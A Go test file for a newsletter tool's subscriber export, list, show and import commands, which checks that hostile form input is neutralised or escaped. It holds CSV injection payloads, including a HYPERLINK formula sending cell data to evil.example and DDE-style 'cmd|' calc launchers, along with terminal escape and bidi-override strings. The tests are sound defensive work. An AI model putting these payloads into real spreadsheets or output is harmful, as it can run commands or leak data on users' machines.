package main

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"newsletter/internal/testkit"
	"newsletter/subscribers"
)

// seedOutsideText adds subscribers whose name, address and user agent came
// from the web form: spreadsheet formulas and terminal control sequences.
func seedOutsideText(t *testing.T, c *cli) {
	t.Helper()
	ctx := context.Background()
	d := testkit.OpenDBFile(t, c.db, nil)
	defer d.Close()
	st := testkit.NewStore(t, d)
	for _, p := range []subscribers.AddParams{
		{Email: "victim@example.org", Name: `=HYPERLINK("http://evil.example/?x="&A1,"Klick")`},
		{Email: "=cmd|'/Ccalc'!A0@example.org", Name: "@SUM(1+1)*cmd|' /C calc'!A0"},
		{Email: "+1-1@example.org", Name: "-2+3"},
		{Email: "bidi@example.org", Name: "Eve \u202egnp.exe", Evidence: subscribers.Evidence{
			IP: "192.0.2.1", UserAgent: "Mozilla/5.0 \u009b2J\u009b31mHACKED\x1b[0m \u202eevil\u2066x\u2069"}},
		{Email: "apostroph@example.org", Name: "'t Hart"},
	} {
		if _, err := st.Add(ctx, p); err != nil {
			t.Fatalf("add %q: %v", p.Email, err)
		}
	}
}

// dangerous reports the first character a terminal could act on.
func dangerous(s string) (rune, bool) {
	for _, r := range s {
		switch {
		case r == '\n':
		case r < 0x20, r == 0x7f, r >= 0x80 && r <= 0x9f, r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069:
			return r, true
		}
	}
	return 0, false
}

// Formula cells are neutralised in `export` and `list --format csv`
// (OWASP: a leading ' makes a spreadsheet show the text), and an import
// of the export gives back the very same list.
func TestCSVOutputNeutralisesFormulas(t *testing.T) {
	c := newCLI(t)
	seedOutsideText(t, c)
	for _, args := range [][]string{{"subscribers", "export"}, {"subscribers", "list", "--format", "csv"}} {
		out, errOut, code := c.run("", args...)
		if code != 0 {
			t.Fatalf("%v: %d %s", args, code, errOut)
		}
		recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil {
			t.Fatalf("%v: %v", args, err)
		}
		for _, rec := range recs[1:] {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%v: formula cell %q", args, cell)
				}
			}
		}
		for _, want := range []string{`'=cmd|'/Ccalc'!A0@example.org`, `'+1-1@example.org`, `'-2+3`, `'@SUM(`, `'=HYPERLINK(`, `'t Hart`} {
			if !strings.Contains(out, want) {
				t.Errorf("%v: output lacks %q:\n%s", args, want, out)
			}
		}
	}
	export, _, _ := c.run("", "subscribers", "export")
	file := filepath.Join(c.dir, "export.csv")
	if err := os.WriteFile(file, []byte(export), 0o600); err != nil {
		t.Fatal(err)
	}
	other := filepath.Join(c.dir, "other.db")
	if out, errOut, code := c.run("", "subscribers", "import", file, "--db", other); code != 0 || !strings.Contains(out, "5 added") {
		t.Fatalf("import of the export: %d %s %s", code, out, errOut)
	}
	if again, _, _ := c.run("", "subscribers", "export", "--db", other); again != export {
		t.Fatalf("round trip differs:\n%s\n---\n%s", export, again)
	}
	if out, _, _ := c.run("", "subscribers", "show", "=cmd|'/Ccalc'!A0@example.org", "--db", other); !strings.Contains(out, "Name:          @SUM(1+1)") {
		t.Errorf("the leading ' was not taken off on import:\n%s", out)
	}
}

// Text from outside (names, user agents) reaches the terminal with control
// and bidi characters escaped; JSON carries them as \u escapes that decode
// to the stored text.
func TestShowAndListEscapeControlCharacters(t *testing.T) {
	c := newCLI(t)
	seedOutsideText(t, c)
	const ua = "Mozilla/5.0 \u009b2J\u009b31mHACKED\x1b[0m \u202eevil\u2066x\u2069"
	for _, args := range [][]string{
		{"subscribers", "show", "bidi@example.org"},
		{"subscribers", "show", "bidi@example.org", "--format", "json"},
		{"subscribers", "list", "--format", "table"},
		{"subscribers", "list", "--format", "json"},
	} {
		out, errOut, code := c.run("", args...)
		if code != 0 {
			t.Fatalf("%v: %d %s", args, code, errOut)
		}
		if r, bad := dangerous(out); bad {
			t.Errorf("%v: prints %U raw:\n%s", args, r, out)
		}
		if args[len(args)-1] == "json" {
			if !strings.Contains(out, `\u202e`) {
				t.Errorf("%v: no \\u202e escape:\n%s", args, out)
			}
			continue
		}
		if !strings.Contains(out, `Eve \u202egnp.exe`) {
			t.Errorf("%v: name not escaped readably:\n%s", args, out)
		}
	}
	out, _, _ := c.run("", "subscribers", "show", "bidi@example.org")
	if !strings.Contains(out, `Mozilla/5.0 \u009b2J\u009b31mHACKED\x1b[0m \u202eevil\u2066x\u2069`) {
		t.Errorf("user agent not shown escaped:\n%s", out)
	}
	out, _, _ = c.run("", "subscribers", "show", "bidi@example.org", "--format", "json")
	var shown struct {
		Subscriber struct {
			Name string `json:"name"`
		} `json:"subscriber"`
		Events []struct {
			UserAgent string `json:"user_agent"`
		} `json:"events"`
	}
	if err := json.Unmarshal([]byte(out), &shown); err != nil {
		t.Fatalf("json: %v\n%s", err, out)
	}
	if shown.Subscriber.Name != "Eve \u202egnp.exe" || len(shown.Events) != 1 || shown.Events[0].UserAgent != ua {
		t.Errorf("JSON does not decode to the stored text: %+q", shown)
	}
}

// One bad row is one line of the import report, at most about 200
// characters of it, whatever the row holds.
func TestImportReportOneLinePerBadRow(t *testing.T) {
	c := newCLI(t)
	in := "email,name,subscribed_at\n" +
		strings.Repeat("x", 1_000_081) + "@example.org,Lang\n" +
		"\"evil\x00@example.org\r\nfile.csv:99: fake@example.org: looks real\",Nul\n" +
		"\"bad\u009b[2J@example.org\",C1\n" +
		"ok@example.org,Gut\n" +
		"y@example.org,Y," + strings.Repeat("2026\u202e", 100_000) + "\n"
	out, errOut, code := c.run(in, "subscribers", "import", "-")
	if code != 0 || !strings.Contains(out, "1 added") || !strings.Contains(out, "4 rejected") {
		t.Fatalf("import: %d\n%s\n%s", code, out, errOut)
	}
	lines := strings.Split(strings.TrimSuffix(errOut, "\n"), "\n")
	if len(lines) != 4 {
		t.Fatalf("report has %d lines for 4 bad rows:\n%s", len(lines), errOut)
	}
	for _, l := range lines {
		if n := utf8.RuneCountInString(l); n > 520 {
			t.Errorf("report line of %d characters: %.80q…", n, l)
		}
		if r, bad := dangerous(l); bad {
			t.Errorf("report line carries %U raw: %q", r, l)
		}
	}
	if !strings.Contains(errOut, `evil\x00@example.org\nfile.csv:99`) {
		t.Errorf("NUL and CRLF not shown escaped:\n%s", errOut)
	}
}
